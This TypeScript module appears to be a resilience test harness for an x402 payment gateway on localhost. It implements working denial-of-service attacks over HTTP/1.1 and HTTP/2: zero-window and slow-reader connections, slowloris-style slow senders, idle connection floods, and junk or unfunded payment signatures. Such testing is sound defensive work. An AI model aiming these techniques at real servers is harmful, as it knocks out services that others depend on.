/**
 * What strangers do who buy nothing: each attack is a client that takes up something of the gateway's for as long as
 * it is let, and comes back when it is cut. Over HTTP/1.1 in the clear, or over HTTP/2.
 */
import { randomBytes } from "node:crypto";
import { connect, type OnReadOpts, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";
import type { PaymentRequirements } from "../../src/x402/x402.ts";
import { dataFrame, frame, headersFrame, integer, PREFACE } from "../attack/http2-frames.ts";
import { authorize, paymentHeader, quickPayment } from "../support/quick-payer.ts";

export const PROTOCOLS = ["HTTP/1.1", "HTTP/2"] as const;
export type Protocol = (typeof PROTOCOLS)[number];

/** Where the attackers are sent. */
export interface Besieged {
  readonly port: number;
  readonly protocol: Protocol;
  /** What junk signatures pretend to pay for; null where nothing is sold. */
  readonly offer: PaymentRequirements | null;
}

/** What one stranger does on one connection, until it is over. */
type Manner = (socket: Socket, besieged: Besieged) => (() => void) | void;

export interface Attack {
  readonly name: string;
  /** Connections that are kept open together, over HTTP/1.1 and over HTTP/2. */
  readonly connections: Readonly<Record<Protocol, number>>;
  readonly manner: Readonly<Record<Protocol, Manner>>;
  /** At nginx, too: it knows nothing of payments, and has no documents of its own. */
  readonly isFrontDoor: boolean;
  /** Takes single bytes off the connection. */
  readonly sips?: true;
}

/** The paths of the shop behind the gateway. */
export const PATHS = {
  /** Longer than a stream's first window; of what is longer the kernel of the shop's own machine holds the rest. */
  large: "/free/large",
  /** Longer than what kernels hold of a connection that nobody reads. */
  huge: "/free/huge",
  goods: "/free/goods",
  document: "/openapi.json",
  sold: "/goods/1",
} as const;
const AUTHORITY = "shop.example";
/** Streams of one HTTP/2 connection. */
const STREAMS = 100;
/** Pause between two bytes, and between two junk payments of one client, milliseconds. */
const SIP_MS = 1_000;
const JUNK_MS = 2_000;
/** Larger than anything is sent slowly for. */
const SLOW_BODY_BYTES = 100_000;
const INITIAL_WINDOW_SIZE = 4;
const MOST_WINDOW = 2 ** 31 - 1;
const FIRST_WINDOW = 65_535;

export const ATTACKS: readonly Attack[] = [
  {
    name: "zero windows",
    connections: { "HTTP/1.1": 2_000, "HTTP/2": 200 },
    manner: {
      "HTTP/1.1": (socket) => {
        socket.pause();
        socket.write(head("GET", PATHS.huge));
      },
      "HTTP/2": (socket) => {
        socket.write(opening(0) + streams(STREAMS, PATHS.large), "latin1");
      },
    },
    isFrontDoor: true,
  },
  {
    name: "slow readers",
    connections: { "HTTP/1.1": 2_000, "HTTP/2": 200 },
    manner: {
      "HTTP/1.1": (socket) => void socket.write(head("GET", PATHS.huge)),
      "HTTP/2": (socket) => {
        socket.write(opening(0) + streams(STREAMS, PATHS.large), "latin1");
        return every(SIP_MS, () => {
          const more = ids(STREAMS).map((id) => frame("window", id, integer(1, 4)));
          socket.write(more.join(""), "latin1");
        });
      },
    },
    isFrontDoor: true,
    sips: true,
  },
  {
    name: "slow senders",
    connections: { "HTTP/1.1": 2_000, "HTTP/2": 200 },
    manner: {
      "HTTP/1.1": (socket) => {
        socket.write(head("POST", PATHS.goods, [["Content-Length", String(SLOW_BODY_BYTES)]]));
        return every(SIP_MS, () => void socket.write("a"));
      },
      "HTTP/2": (socket) => {
        socket.write(opening(FIRST_WINDOW) + streams(STREAMS, PATHS.goods, "POST"), "latin1");
        return every(SIP_MS, () => {
          const more = ids(STREAMS).map((id) => dataFrame(id, "a", false));
          socket.write(more.join(""), "latin1");
        });
      },
    },
    isFrontDoor: true,
  },
  {
    name: "idle connections",
    connections: { "HTTP/1.1": 18_000, "HTTP/2": 2_000 },
    manner: {
      "HTTP/1.1": () => undefined,
      "HTTP/2": (socket) => void socket.write(opening(FIRST_WINDOW), "latin1"),
    },
    isFrontDoor: true,
  },
  {
    name: "unread documents",
    connections: { "HTTP/1.1": 1_000, "HTTP/2": 200 },
    manner: {
      "HTTP/1.1": (socket) => {
        socket.pause();
        socket.write(head("GET", PATHS.document).repeat(20));
      },
      "HTTP/2": (socket) => {
        socket.write(opening(0) + streams(STREAMS, PATHS.document), "latin1");
      },
    },
    isFrontDoor: false,
  },
  {
    name: "junk signatures",
    connections: { "HTTP/1.1": 1_200, "HTTP/2": 200 },
    manner: presenting(junk),
    isFrontDoor: false,
  },
  {
    name: "empty keys",
    connections: { "HTTP/1.1": 1_200, "HTTP/2": 200 },
    manner: presenting(poor),
    isFrontDoor: false,
  },
];

/** 1,200 payments every other second. */
function presenting(pay: (offer: PaymentRequirements) => string): Attack["manner"] {
  const lineFor = (offer: PaymentRequirements | null): string => {
    if (offer === null) throw new Error("nothing is sold here");
    return pay(offer);
  };
  return {
    "HTTP/1.1": (socket, { offer }) => {
      const ask = (): void => {
        socket.write(head("GET", PATHS.sold, [["X-PAYMENT", lineFor(offer)]]));
      };
      ask();
      return every(JUNK_MS, ask);
    },
    "HTTP/2": (socket, { offer }) => {
      const window = frame("window", 0, integer(MOST_WINDOW - FIRST_WINDOW, 4));
      socket.write(opening(FIRST_WINDOW) + window, "latin1");
      let id = -1;
      const ask = (): void => {
        const asked = Array.from({ length: 6 }, () => {
          id += 2;
          return stream(id, PATHS.sold, "GET", [["x-payment", lineFor(offer)]]);
        });
        socket.write(asked.join(""), "latin1");
      };
      ask();
      return every(JUNK_MS, ask);
    },
  };
}

type Lines = readonly (readonly [name: string, value: string])[];

function head(method: string, path: string, lines: Lines = []): string {
  const all = [["Host", AUTHORITY], ...lines].map(([name, value]) => `${name}: ${value}\r\n`);
  return `${method} ${path} HTTP/1.1\r\n${all.join("")}\r\n`;
}

/**
 * The beginning of a connection whose streams have that window. It never says that it knows the server's settings: what
 * comes beyond a limit that is known ends a connection, and else only a stream.
 */
function opening(window: number): string {
  return PREFACE + frame("settings", 0, integer(INITIAL_WINDOW_SIZE, 2) + integer(window, 4));
}

const ids = (count: number): readonly number[] =>
  Array.from({ length: count }, (_, index) => 2 * index + 1);

function streams(count: number, path: string, method = "GET"): string {
  return ids(count)
    .map((id) => stream(id, path, method))
    .join("");
}

function stream(id: number, path: string, method: string, more: Lines = []): string {
  const lines = [
    [":method", method],
    [":scheme", "https"],
    [":path", path],
    [":authority", AUTHORITY],
    ...more,
  ] as const;
  return headersFrame(id, lines, { ends: method === "GET" });
}

/** A payment in the name of somebody who signed nothing: only the chain can tell. */
function junk(offer: PaymentRequirements): string {
  const from = `0x${randomBytes(20).toString("hex")}`;
  const signature = `0x${randomBytes(64).toString("hex")}1b`;
  return paymentHeader(offer, { signature, authorization: authorize(from, offer) });
}

/** One that is signed well, by a key that holds nothing. */
function poor(offer: PaymentRequirements): string {
  return quickPayment(randomBytes(32), offer);
}

function every(ms: number, act: () => void): () => void {
  const timer = setInterval(act, ms);
  return () => clearInterval(timer);
}

/** One byte, and the next one a while later. */
function sipping(): { readonly onread: OnReadOpts } {
  return { onread: { buffer: new Uint8Array(1), callback: () => false } };
}

export function open(attack: Attack, besieged: Besieged, localAddress: string): Socket {
  const { port, protocol } = besieged;
  const place = { port, host: "127.0.0.1", localAddress };
  const isSipping = attack.sips === true && protocol === "HTTP/1.1";
  const socket =
    protocol === "HTTP/2"
      ? connectTls({ ...place, rejectUnauthorized: false, ALPNProtocols: ["h2"] })
      : connect({ ...place, ...(isSipping && sipping()) });
  socket.on("error", () => undefined);
  if (!isSipping) socket.on("data", () => undefined);
  const begun = protocol === "HTTP/2" ? "secureConnect" : "connect";
  socket.once(begun, () => {
    const ends = [
      attack.manner[protocol](socket, besieged),
      isSipping ? every(SIP_MS, () => void socket.resume()) : undefined,
    ];
    socket.once("close", () => {
      for (const end of ends) end?.();
    });
  });
  return socket;
}
